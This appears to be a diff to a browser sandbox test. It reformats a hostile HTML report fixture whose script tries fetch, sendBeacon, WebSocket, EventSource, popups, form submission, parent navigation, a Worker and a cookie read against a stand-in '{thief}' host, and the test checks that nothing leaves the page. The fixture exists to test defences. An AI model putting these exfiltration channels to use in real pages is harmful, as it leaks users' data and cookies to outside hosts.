@@ -1,4 +1,4 @@
-"""A report that somebody else wrote, in a real browser: it shows, and nothing of it or of its reader leaves the page."""
+"""A report that somebody else wrote, in a real browser: it shows, and nothing leaves the page."""
 
 import shutil
 import threading
@@ -21,10 +21,13 @@ HOSTILE = """<!doctype html><title>Report</title><h1>Report</h1>
 <script>
 const reached = (name) => document.body.append(" ran:" + name);
 const tries = {{
-  fetch: () => fetch("{thief}/fetch").catch(() => 0), own: () => fetch("/api/v1/runs").then(() => reached("api")).catch(() => 0),
-  beacon: () => navigator.sendBeacon("{thief}/beacon"), socket: () => new WebSocket("{thief}/socket".replace("http", "ws")),
+  fetch: () => fetch("{thief}/fetch").catch(() => 0),
+  own: () => fetch("/api/v1/runs").then(() => reached("api")).catch(() => 0),
+  beacon: () => navigator.sendBeacon("{thief}/beacon"),
+  socket: () => new WebSocket("{thief}/socket".replace("http", "ws")),
   events: () => new EventSource("{thief}/events"), popup: () => window.open("{thief}/popup"),
-  form: () => form.submit(), top: () => document.getElementById("top").click(), parent: () => {{ parent.location = "{thief}/parent"; }},
+  form: () => form.submit(), top: () => document.getElementById("top").click(),
+  parent: () => {{ parent.location = "{thief}/parent"; }},
   cookies: () => reached("cookies " + document.cookie), worker: () => new Worker("{thief}/worker"),
 }};
 for (const attempt of Object.values(tries)) {{ try {{ attempt(); }} catch {{ }} }}
